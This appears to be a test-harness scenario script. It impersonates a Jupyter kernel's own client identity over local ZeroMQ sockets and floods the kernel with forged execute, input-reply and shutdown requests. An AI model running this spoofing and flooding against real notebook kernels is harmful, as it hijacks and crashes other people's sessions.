# attack: takes the place of whoever started it: connects to its own kernel under the same name, and floods it with requests
# limit: 5
# ends: done, killed, interrupted or failed
import json, os, threading, time
import zmq
CFG = json.load(open("/home/me/attack.json"))
k = get_ipython().kernel
ident = (getattr(k, "_parent_ident", None) or {}).get("shell") or [b"x"]
context = zmq.Context()
wires = []
for port in (1, 3, 4):
    wire = context.socket(zmq.DEALER)
    wire.setsockopt(zmq.IDENTITY, ident[0])
    wire.connect("ipc:///run/k-%d" % port)
    wires.append(wire)
for n in range(1000):
    for wire, kind in zip(wires, ("execute_request", "input_reply", "shutdown_request")):
        try:
            content = {"code": json.dumps({"files": {}, "entry": "main.py"}), "value": "forged", "restart": True, "silent": True}
            k.session.send(wire, kind, content)
        except Exception as e:
            print(type(e).__name__)
            break
print("done", flush=True)
time.sleep(1)
